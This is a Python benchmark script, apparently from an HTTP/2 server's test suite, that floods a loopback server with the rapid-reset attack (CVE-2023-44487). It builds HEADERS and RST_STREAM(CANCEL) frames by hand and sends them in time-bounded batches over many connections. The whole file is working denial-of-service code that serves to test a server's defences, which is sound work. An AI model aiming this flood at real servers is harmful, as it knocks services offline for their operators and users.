#!/usr/bin/env python3
"""bench/h2flood.py — a bounded HTTP/2 rapid-reset attacker (CVE-2023-44487)
for bench/h2.sh: CONNS TLS connections (ALPN h2) to 127.0.0.1:PORT, each
sending HEADERS for GET PATH then RST_STREAM(CANCEL) at once, in batches,
reconnecting when the server closes; stops after SECONDS. Loopback only;
the attacker's connections come from SRC (127.0.0.2: not the good client's
address, as a real attacker's would not be). Prints "streams=N connections=N
refused=N" (streams opened, connections made, connections the server refused
or dropped before the HTTP/2 preface).

Usage: h2flood.py PORT SECONDS [CONNS] [PATH] [SRC]"""
import select
import socket
import ssl
import sys
import time

PORT, SECONDS = int(sys.argv[1]), float(sys.argv[2])
CONNS = int(sys.argv[3]) if len(sys.argv) > 3 else 4
PATH = (sys.argv[4] if len(sys.argv) > 4 else "/100b.html").encode()
SRC = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2"
BATCH = 50


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, ftype, flags]) + sid.to_bytes(4, "big") + payload


# GET https://localhost PATH in HPACK: static :method GET, :scheme https,
# :authority and :path as literals without indexing
BLOCK = b"\x82\x87\x01\x09localhost\x04" + bytes([len(PATH)]) + PATH
CTX = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CTX.check_hostname = False
CTX.verify_mode = ssl.CERT_NONE
CTX.set_alpn_protocols(["h2"])


class Conn:
    def __init__(self):
        raw = socket.create_connection(("127.0.0.1", PORT), timeout=1, source_address=(SRC, 0))
        self.s = CTX.wrap_socket(raw, server_hostname="localhost")
        self.s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        self.s.setblocking(False)
        self.sid = 1

    def burst(self):
        out = []
        for _ in range(BATCH):
            out.append(frame(1, 5, self.sid, BLOCK) + frame(3, 0, self.sid, (8).to_bytes(4, "big")))
            self.sid += 2
        self.s.setblocking(True)
        self.s.settimeout(1)
        self.s.sendall(b"".join(out))
        self.s.setblocking(False)
        return BATCH


def main():
    end = time.time() + SECONDS
    conns, streams, made, refused = [], 0, 0, 0
    while time.time() < end:
        while len(conns) < CONNS and time.time() < end:
            try:
                conns.append(Conn())
                made += 1
            except OSError:
                refused += 1
                time.sleep(0.01)
        for c in list(conns):
            try:
                r, _, _ = select.select([c.s], [], [], 0)
                while r:  # read what the server sent (its GOAWAY, a close)
                    try:
                        if not c.s.recv(65536):
                            raise ConnectionError
                    except ssl.SSLWantReadError:
                        break
                streams += c.burst()
            except (OSError, ssl.SSLError, ConnectionError):
                c.s.close()
                conns.remove(c)
    for c in conns:
        c.s.close()
    print("streams=%d connections=%d refused=%d" % (streams, made, refused))


main()
